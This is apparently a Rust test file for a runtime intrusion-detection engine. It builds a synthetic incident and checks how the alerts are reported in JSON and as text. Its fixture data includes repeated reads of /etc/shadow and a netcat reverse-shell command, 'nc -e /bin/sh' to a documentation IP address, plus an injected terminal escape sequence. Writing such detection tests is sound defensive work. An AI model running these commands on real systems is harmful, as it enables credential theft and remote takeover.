//! An incident of three steps, in JSON and as a block.

use std::sync::Arc;

use nightjar_engine::{
    incident::{Found, Incidents, Report, SECOND, Settings},
    rule::{Finding, Priority, Rule},
};
use serde_json::{Value, json};

use super::{
    super::{
        Alert, Message,
        human::{Look, block},
        json::to_line,
        sample::{alert, process},
    },
    *,
};

/// Reads a secret file three times, then starts what is worse: what is told at first, then, and at the end.
pub fn told() -> Vec<Alert> {
    let settings = Settings { window: 300 * SECOND, pause: SECOND, per_minute: 0 };
    let (mut incidents, mut reports) = (Incidents::new(settings), Vec::new());
    let sample = alert();
    let in_container = |mut event: nightjar_engine::Event| {
        let mut process = (*event.process).clone();
        let mut shell = (**process.parent.as_ref().unwrap()).clone();
        (process.pid_ns, shell.pid_ns) = (7, 7);
        process.parent = Some(Arc::new(shell));
        event.process = Arc::new(process);
        event
    };
    let event = in_container(sample.event.clone());
    for n in 0..3 {
        let mut event = event.clone();
        event.time += n * 1_000_000;
        let mut finding = sample.finding.clone();
        finding.output = format!("Secret file read (file=/etc/shadow user=root pid={})", 1234 + n);
        incidents.take(Found { id: u128::from(10 + n), event, finding }, &mut reports);
    }
    let mut event = event;
    event.time += SECOND / 2;
    let shell = event.process.parent.as_deref().cloned();
    let nc = process(1300, "nc", &["nc", "-e", "/bin/sh", "198.51.100.7"], shell);
    event.process = Arc::new(nightjar_engine::Process { pid_ns: 7, ..nc });
    let rule = Rule {
        name: "Reverse shell".into(),
        priority: Priority::Critical,
        tags: vec!["container".into(), "mitre_execution".into(), "T1059.004".into()],
        ..(*sample.finding.rule).clone()
    };
    let finding = Finding {
        rule: Arc::new(rule),
        output: "Reverse shell | command=nc\u{1b}[2J".into(),
        ..sample.finding.clone()
    };
    incidents.take(Found { id: 20, event, finding }, &mut reports);
    incidents.stop(&mut reports);
    let alert = |report| match report {
        Report::Incident(worst, state) => Some(Alert::of(sample.origin.clone(), &worst, Some(state))),
        Report::Alone(_) | Report::Held(_, _) => None,
    };
    reports.into_iter().filter_map(alert).collect()
}

fn value(alert: &Alert) -> Value {
    serde_json::from_str(&to_line(&Message::Alert(Box::new(alert.clone()))).unwrap()).unwrap()
}

#[test]
fn an_incident_is_told_as_one_alert_that_grows_and_each_time_whole() {
    let told = told();
    let [first, second, last] = [&told[0], &told[1], &told[2]].map(value);
    assert_eq!(told.len(), 3);
    assert_eq!((&first["incident"]["update"], &first["incident"]["findings"]), (&json!(0), &json!(1)));
    assert_eq!(first["uuid"], Uuid::from_u128(10).to_string());
    assert_eq!(first["uuid"], first["incident"]["steps"][0]["uuid"]);
    assert_eq!(first["message"], "Secret file read (file=/etc/shadow user=root pid=1234)");

    for (alert, update) in [(&second, 1), (&last, 2)] {
        assert_eq!(
            (&alert["incident"]["update"], &alert["incident"]["findings"]),
            (&json!(update), &json!(4))
        );
        assert_eq!(alert["incident"]["id"], first["incident"]["id"]);
        assert_ne!(alert["uuid"], first["uuid"]);
        assert_eq!((&alert["rule"], &alert["priority"]), (&json!("Reverse shell"), &json!("Critical")));
        assert_eq!(alert["time"], "2025-11-25T00:34:43.623456789Z");
        assert_eq!(alert["process"]["name"], "nc");
        let tags = json!(["container", "mitre_credential_access", "mitre_execution", "T1059.004"]);
        assert_eq!(alert["tags"], tags);
    }
    assert_ne!(second["uuid"], last["uuid"]);
    assert_eq!((&second["incident"]["state"], &second["incident"]["new"]), (&json!("open"), &json!(1)));
    assert_eq!(
        (&last["incident"]["state"], &last["incident"]["closed"]),
        (&json!("closed"), &json!("stopped"))
    );
    let step = &last["incident"]["steps"][0];
    assert_eq!(
        (&step["count"], &step["rule"], &step["path"]),
        (&json!(3), &json!("Read sensitive file"), &json!("/etc/shadow"))
    );
    assert_eq!(step["examples"].as_array().unwrap().len(), 2);
    assert_eq!(step["why"][1], json!({"check": "fd.name = /etc/shadow", "value": "/etc/shadow"}));
    let tree = last["incident"]["tree"].as_array().unwrap();
    let branches: Vec<_> =
        tree.iter().map(|node| (&node["name"], &node["parent"], &node["depth"], &node["findings"])).collect();
    let (root, none) = (json!(1200), Value::Null);
    assert_eq!(branches[0], (&json!("sh"), &none, &json!(0), &json!(0)));
    assert_eq!(branches[1], (&json!("cat"), &root, &json!(1), &json!(3)));
    assert_eq!(branches[2], (&json!("nc"), &root, &json!(1), &json!(1)));
}

#[test]
fn a_person_reads_what_is_new_and_the_whole_tree() {
    let look = Look { color: false, width: None };
    let told = told();
    let name = short(told[0].incident.as_deref().unwrap());
    assert!(
        block(&told[0], look).ends_with(&format!("  part of incident {name}\n\n")),
        "{}",
        block(&told[0], look)
    );
    let expected = format!("\
2025-11-25 00:34:43.623456789Z  Critical  Incident {name} goes on
  what    4 findings by 2 rules within 0.5 s, score 73
  new     Critical  Reverse shell | command=nc\\x1b[2J [nc(1300)]
  where   container web (0123456789ab), image docker.io/library/nginx:1.27, pod shop/web-0, containerd, node node-1
  tree    sh(1200) sh -c 'cat /etc/shadow'
          └ cat(1234) cat /etc/shadow  ← 3 findings
          └ nc(1300) nc -e /bin/sh 198.51.100.7  ← 1 finding
  tags    container, mitre_credential_access, mitre_execution, T1059.004

");
    assert_eq!(block(&told[1], look), expected);
    let last = block(&told[2], look);
    assert!(last.contains("is over\n") && last.ends_with("  ended   stopped\n\n"), "{last}");
    assert!(last.contains("  steps   Warning   Read sensitive file: Secret file read (file=/etc/shadow user=root pid=1234) [cat(1234)] 3 times\n"), "{last}");
}
